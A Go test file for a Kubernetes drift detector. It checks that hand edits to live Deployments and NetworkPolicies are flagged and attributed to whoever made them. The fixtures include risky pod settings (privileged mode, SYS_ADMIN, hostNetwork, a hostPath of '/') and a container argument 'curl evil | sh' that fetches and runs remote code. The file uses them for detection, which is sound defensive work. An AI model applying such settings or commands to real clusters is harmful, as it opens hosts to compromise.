package drift

import (
	"fmt"
	"strings"
	"testing"
)

// withEntry adds a managedFields entry to the live Deployment fixture.
// fields is the fieldsV1 tree, indented as under "fieldsV1:".
func withEntry(t testing.TB, live, manager, op, subresource, time, fields string) string {
	t.Helper()
	entry := "  - apiVersion: apps/v1\n    fieldsType: FieldsV1\n    fieldsV1:\n" + fields +
		"    manager: " + manager + "\n    operation: " + op + "\n"
	if subresource != "" {
		entry += "    subresource: " + subresource + "\n"
	}
	entry += "    time: \"" + time + "\"\n"
	return edit(t, live, "    time: \"2025-01-02T03:04:09Z\"\nspec:", "    time: \"2025-01-02T03:04:09Z\"\n"+entry+"spec:")
}

// podSpecFields is a fieldsV1 tree for the pod spec of the fixture, with
// inner the fields under f:spec of the template (indented for it).
func podSpecFields(inner string) string {
	return "      f:spec:\n        f:template:\n          f:spec:\n" + inner
}

// setByOutline is outline with the hand-edit attribution of every change.
func setByOutline(r *Report) []string {
	out := outline(r, false)
	var i int
	for _, o := range r.Objects {
		if o.Status == StatusInSync {
			continue
		}
		i++ // the object line
		for _, c := range o.Changes {
			if len(c.SetBy) > 0 {
				out[i] += fmt.Sprintf(" by %v", c.SetBy)
			}
			i++
		}
	}
	return out
}

func TestHandEditsAndSecurityFields(t *testing.T) {
	bare := stripEvidence(t, liveDeployment)
	const when = "2026-12-02T10:14:03Z"
	privileged := func(live string) string {
		return edit(t, live,
			"      dnsPolicy: ClusterFirst\n", "      dnsPolicy: ClusterFirst\n      hostNetwork: true\n",
			"        terminationMessagePath:", "        securityContext:\n          privileged: true\n          capabilities:\n            add: [SYS_ADMIN]\n        terminationMessagePath:")
	}
	patched := withEntry(t, privileged(liveDeployment), "kubectl-patch", "Update", "", when, podSpecFields(
		`            f:containers:
              k:{"name":"api"}:
                f:securityContext:
                  .: {}
                  f:capabilities:
                    .: {}
                    f:add: {}
                  f:privileged: {}
            f:hostNetwork: {}
`))
	const wantPrivileged = `changed Deployment shop/api
! spec.template.spec.containers[name=api].securityContext.capabilities.add: ["SYS_ADMIN"]
! spec.template.spec.containers[name=api].securityContext.privileged: true
! spec.template.spec.hostNetwork: true`

	tests := []struct {
		name    string
		desired string
		live    string
		opts    Options
		want    string
	}{
		{
			name:    "privileged, capabilities and hostNetwork patched by hand are drift, with who and when",
			desired: desiredDeployment,
			live:    patched,
			want: `changed Deployment shop/api
! spec.template.spec.containers[name=api].securityContext.capabilities.add: ["SYS_ADMIN"] [kubectl-patch] by [kubectl-patch at 2026-12-02T10:14:03Z]
! spec.template.spec.containers[name=api].securityContext.privileged: true [kubectl-patch] by [kubectl-patch at 2026-12-02T10:14:03Z]
! spec.template.spec.hostNetwork: true [kubectl-patch] by [kubectl-patch at 2026-12-02T10:14:03Z]`,
		},
		{
			name:    "security fields are closed without managedFields (a snapshot, an old object)",
			desired: desiredDeployment,
			live:    privileged(bare),
			want:    wantPrivileged,
		},
		{
			name:    "security fields are closed whoever set them, even an unlisted manager",
			desired: desiredDeployment,
			live: withEntry(t, privileged(liveDeployment), "some-operator", "Update", "", when, podSpecFields(
				"            f:hostNetwork: {}\n")),
			want: `changed Deployment shop/api
! spec.template.spec.containers[name=api].securityContext.capabilities.add: ["SYS_ADMIN"]
! spec.template.spec.containers[name=api].securityContext.privileged: true
! spec.template.spec.hostNetwork: true [some-operator]`,
		},
		{
			name:    "live values equal to the Kubernetes defaults are not drift",
			desired: desiredDeployment,
			live: edit(t, bare,
				"      dnsPolicy: ClusterFirst\n", "      dnsPolicy: ClusterFirst\n      enableServiceLinks: true\n      serviceAccountName: default\n      serviceAccount: default\n      hostNetwork: false\n      automountServiceAccountToken: true\n",
				"        terminationMessagePath:", "        securityContext:\n          privileged: false\n          allowPrivilegeEscalation: true\n          procMount: Default\n          readOnlyRootFilesystem: false\n        terminationMessagePath:"),
		},
		{
			name:    "a service account set by hand is drift once, not again for its deprecated alias",
			desired: desiredDeployment,
			live:    edit(t, bare, "      dnsPolicy: ClusterFirst\n", "      dnsPolicy: ClusterFirst\n      serviceAccountName: cluster-admin-sa\n      serviceAccount: cluster-admin-sa\n"),
			want:    "changed Deployment shop/api\n! spec.template.spec.serviceAccountName: \"cluster-admin-sa\"",
		},
		{
			name:    "a hostPath volume swapped in for an emptyDir is drift",
			desired: edit(t, desiredDeployment, "      containers:\n", "      volumes:\n      - name: scratch\n        emptyDir: {}\n      containers:\n"),
			live:    edit(t, bare, "      dnsPolicy:", "      volumes:\n      - name: scratch\n        hostPath:\n          path: /\n          type: \"\"\n      dnsPolicy:"),
			want:    "changed Deployment shop/api\n! spec.template.spec.volumes[name=scratch].hostPath.path: \"/\"",
		},
		{
			name:    "command and args the repository does not declare are drift",
			desired: desiredDeployment,
			live:    edit(t, bare, "        image: shop/api:1.0\n", "        image: shop/api:1.0\n        command: [sh, -c]\n        args: [\"curl evil | sh\"]\n"),
			want: `changed Deployment shop/api
! spec.template.spec.containers[name=api].args: ["curl evil | sh"]
! spec.template.spec.containers[name=api].command: ["sh","-c"]`,
		},
		{
			name: "a declared false or 0 the cluster lacks is drift where the Kubernetes default differs",
			desired: edit(t, desiredDeployment,
				"      containers:\n", "      automountServiceAccountToken: false\n      enableServiceLinks: false\n      hostNetwork: false\n      hostPID: false\n      containers:\n",
				"        resources:\n", "        securityContext:\n          allowPrivilegeEscalation: false\n          privileged: false\n          readOnlyRootFilesystem: false\n          runAsNonRoot: false\n          runAsUser: 0\n        resources:\n"),
			live: bare,
			want: `changed Deployment shop/api
+ spec.template.spec.automountServiceAccountToken: false
+ spec.template.spec.containers[name=api].securityContext.allowPrivilegeEscalation: false
+ spec.template.spec.containers[name=api].securityContext.runAsUser: 0
+ spec.template.spec.enableServiceLinks: false`,
		},
		{
			name:    "a field a hand-edit manager set is drift even outside the security fields",
			desired: desiredDeployment,
			live: withEntry(t, edit(t, liveDeployment, "  progressDeadlineSeconds: 600\n", "  minReadySeconds: 30\n  progressDeadlineSeconds: 600\n"),
				"kubectl-edit", "Update", "", when, "      f:spec:\n        f:minReadySeconds: {}\n"),
			want: "changed Deployment shop/api\n! spec.minReadySeconds: 30 [kubectl-edit] by [kubectl-edit at 2026-12-02T10:14:03Z]",
		},
		{
			name:    "the same field owned by the object's creator is a default, not drift",
			desired: desiredDeployment,
			live: withEntry(t, edit(t, liveDeployment, "  progressDeadlineSeconds: 600\n", "  minReadySeconds: 30\n  progressDeadlineSeconds: 600\n"),
				"kubectl-create", "Update", "", when, "      f:spec:\n        f:minReadySeconds: {}\n"),
		},
		{
			name:    "managers listed in handEditManagers are hand edits too",
			desired: desiredDeployment,
			live: withEntry(t, edit(t, liveDeployment, "  progressDeadlineSeconds: 600\n", "  minReadySeconds: 30\n  progressDeadlineSeconds: 600\n"),
				"k9s", "Update", "", when, "      f:spec:\n        f:minReadySeconds: {}\n"),
			opts: Options{HandEditManagers: append([]string{"k9s"}, DefaultHandEditManagers...)},
			want: "changed Deployment shop/api\n! spec.minReadySeconds: 30 [k9s] by [k9s at 2026-12-02T10:14:03Z]",
		},
		{
			name:    "a hand edit through the scale subresource of replicas the repository leaves open is drift",
			desired: edit(t, desiredDeployment, "  replicas: 2\n", ""),
			live: withEntry(t, edit(t, stripLastAppliedOnly(t, liveDeployment), "  replicas: 2\n  revisionHistoryLimit", "  replicas: 9\n  revisionHistoryLimit"),
				"kubectl-scale", "Update", "scale", when, "      f:spec:\n        f:replicas: {}\n"),
			want: "changed Deployment shop/api\n! spec.replicas: 9 [kubectl-client-side-apply kubectl-scale] by [kubectl-scale at 2026-12-02T10:14:03Z]",
		},
		{
			name:    "a changed field names the hand edit that changed it: kubectl scale is manager kubectl on the scale subresource",
			desired: desiredDeployment,
			live: withEntry(t, edit(t, liveDeployment, "  replicas: 2\n  revisionHistoryLimit", "  replicas: 9\n  revisionHistoryLimit"),
				"kubectl", "Update", "scale", when, "      f:spec:\n        f:replicas: {}\n"),
			want: "changed Deployment shop/api\n~ spec.replicas: 9 → 2 by [kubectl at 2026-12-02T10:14:03Z]",
		},
		{
			name:    "labels and annotations set by hand are not drift by default",
			desired: desiredDeployment,
			live: withEntry(t, edit(t, liveDeployment, "  labels:\n    app: api\n", "  labels:\n    app: api\n    team: payments\n"),
				"kubectl-label", "Update", "", when, "      f:metadata:\n        f:labels:\n          f:team: {}\n"),
		},
		{
			name:    "labels and annotations set by hand are drift with StrictMetadata",
			desired: desiredDeployment,
			live: withEntry(t, edit(t, liveDeployment, "  labels:\n    app: api\n", "  labels:\n    app: api\n    team: payments\n"),
				"kubectl-label", "Update", "", when, "      f:metadata:\n        f:labels:\n          f:team: {}\n"),
			opts: Options{StrictMetadata: true},
			want: "changed Deployment shop/api\n! metadata.labels.team: \"payments\" [kubectl-label] by [kubectl-label at 2026-12-02T10:14:03Z]",
		},
		{
			name:    "kubectl rollout restart is not a hand edit",
			desired: desiredDeployment,
			live: withEntry(t, edit(t, liveDeployment, "      creationTimestamp: null\n", "      annotations:\n        kubectl.kubernetes.io/restartedAt: \"2026-12-02T10:00:00Z\"\n      creationTimestamp: null\n"),
				"kubectl-rollout", "Update", "", when, podSpecFields("")+"          f:metadata:\n            f:annotations:\n              f:kubectl.kubernetes.io/restartedAt: {}\n"),
			opts: Options{StrictMetadata: true},
		},
		{
			name:    "a field Argo CD applied that left the repository is removed",
			desired: edit(t, desiredDeployment, "  replicas: 2\n", ""),
			live: withEntry(t, stripLastAppliedOnly(t, liveDeployment),
				"argocd-controller", "Apply", "", when, "      f:spec:\n        f:replicas: {}\n"),
			want: "changed Deployment shop/api\n- spec.replicas: 2",
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			r := mustCompare(t, tt.desired, tt.live, tt.opts)
			got := strings.Join(setByOutline(r), "\n")
			if got != tt.want {
				t.Errorf("report:\n%s\nwant:\n%s", got, tt.want)
			}
		})
	}
}

func TestNetworkPolicySpecIsClosed(t *testing.T) {
	const denyAll = `apiVersion: networking.k8s.io/v1
kind: NetworkPolicy
metadata:
  name: deny-all
  namespace: shop
spec:
  podSelector: {}
`
	const live = denyAll + "  policyTypes: [Ingress]\n"
	tests := []struct {
		name, desired, live, want string
	}{
		{"the defaulted policyTypes are not drift", denyAll, live, ""},
		{"a deny-all opened with ingress: [{}] is drift", denyAll, live + "  ingress:\n  - {}\n",
			"changed NetworkPolicy shop/deny-all\n! spec.ingress[0]: {}"},
		{"an egress rule added by hand is drift", denyAll, live + "  egress:\n  - to:\n    - ipBlock: {cidr: 0.0.0.0/0}\n",
			"changed NetworkPolicy shop/deny-all\n! spec.egress[0]: {\"to\":[{\"ipBlock\":{\"cidr\":\"0.0.0.0/0\"}}]}"},
		{"policyTypes defaulted for a policy with egress rules are not drift",
			denyAll + "  egress:\n  - to:\n    - podSelector: {}\n",
			denyAll + "  egress:\n  - to:\n    - podSelector: {}\n  policyTypes: [Ingress, Egress]\n", ""},
		{"policyTypes changed by hand are drift", denyAll, denyAll + "  policyTypes: [Egress]\n",
			"changed NetworkPolicy shop/deny-all\n! spec.policyTypes: [\"Egress\"]"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			got := strings.Join(outline(mustCompare(t, tt.desired, tt.live, Options{}), false), "\n")
			if got != tt.want {
				t.Errorf("report:\n%s\nwant:\n%s", got, tt.want)
			}
		})
	}
}

func TestHPAMetricTargetsCompareAsQuantities(t *testing.T) {
	const hpa = `apiVersion: autoscaling/v2
kind: HorizontalPodAutoscaler
metadata:
  name: api
  namespace: shop
spec:
  maxReplicas: 5
  metrics:
  - type: Pods
    pods:
      metric: {name: queue}
      target: {type: AverageValue, averageValue: "0.5"}
  - type: Object
    object:
      describedObject: {apiVersion: v1, kind: Service, name: api}
      metric: {name: rps}
      target: {type: Value, value: "1k"}
`
	live := edit(t, hpa, `averageValue: "0.5"`, `averageValue: 500m`, `value: "1k"`, `value: "1000"`)
	if got := outline(mustCompare(t, hpa, live, Options{}), false); len(got) != 0 {
		t.Errorf("report: %v, want in sync", got)
	}
	live = edit(t, hpa, `averageValue: "0.5"`, `averageValue: 600m`)
	if got := outline(mustCompare(t, hpa, live, Options{}), false); len(got) != 2 {
		t.Errorf("report: %v, want one change", got)
	}
}
